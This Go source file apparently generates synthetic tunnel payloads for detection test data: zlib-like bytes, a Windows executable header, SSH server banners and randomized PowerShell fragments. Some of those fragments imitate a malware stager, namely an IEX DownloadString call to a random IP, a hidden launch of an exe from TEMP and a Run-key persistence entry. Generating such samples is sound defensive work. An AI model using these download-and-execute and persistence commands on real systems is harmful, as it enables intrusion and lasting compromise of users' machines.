package txtgen

import (
	"encoding/binary"
	"strings"
)

// This file makes what tunnels carry before they encode it: compressed or
// encrypted bytes (indistinguishable from random), executables, scripts.

// zlibStream returns n bytes of a zlib stream: the two header bytes zlib
// writes at its default and best levels, then deflate output, which is as
// good as random.
func (g *gen) zlibStream(n int) []byte {
	b := g.bytes(n)
	if n >= 2 {
		b[0] = 0x78
		b[1] = []byte{0x9c, 0xda, 0x01}[g.intn(3)]
	}
	return b
}

// peHeader returns the first bytes of a Windows executable: the DOS header
// and stub as linkers write them, with a random PE offset.
func (g *gen) peHeader() []byte {
	h := make([]byte, 128)
	copy(h, "MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00\xb8\x00\x00\x00\x00\x00\x00\x00\x40")
	binary.LittleEndian.PutUint32(h[60:], uint32(0x80+8*g.intn(32)))
	copy(h[64:], "\x0e\x1f\xba\x0e\x00\xb4\x09\xcd\x21\xb8\x01\x4c\xcd\x21This program cannot be run in DOS mode.\r\r\n$")
	return h
}

// script returns n bytes of PowerShell such as stagers download.
func (g *gen) script(n int) []byte {
	var b strings.Builder
	for b.Len() < n {
		switch g.intn(8) {
		case 0:
			b.WriteString("$" + g.word() + " = New-Object System.Net.WebClient;\r\n")
		case 1:
			b.WriteString("IEX ($" + g.word() + ".DownloadString('http://" + g.ipv4() + "/" + g.word() + ".ps1'));\r\n")
		case 2:
			b.WriteString("function Invoke-" + strings.ToUpper(g.word()[:1]) + g.word()[1:] + " {\r\n    param([string]$" + g.word() + ")\r\n")
		case 3:
			b.WriteString("    [System.Convert]::FromBase64String($" + g.word() + ")\r\n")
		case 4:
			b.WriteString("    $bytes = [System.Text.Encoding]::UTF8.GetBytes($" + g.word() + ");\r\n}\r\n")
		case 5:
			b.WriteString("Start-Process -WindowStyle Hidden -FilePath $env:TEMP\\" + g.word() + ".exe\r\n")
		case 6:
			b.WriteString("$" + g.word() + " = Get-WmiObject Win32_ComputerSystem | Select-Object -ExpandProperty Name\r\n")
		default:
			b.WriteString("Set-ItemProperty -Path HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run -Name " + g.word() + "\r\n")
		}
	}
	return []byte(b.String()[:n])
}

// sshBanner is what an SSH server sends first, which DNS SSH tunnels
// carry in their first answer.
func (g *gen) sshBanner() []byte {
	return []byte(g.pick("SSH-2.0-OpenSSH_8.9p1 Ubuntu-3ubuntu0.6", "SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u2",
		"SSH-2.0-OpenSSH_7.4", "SSH-2.0-OpenSSH_9.6", "SSH-2.0-dropbear_2022.83") + "\r\n")
}
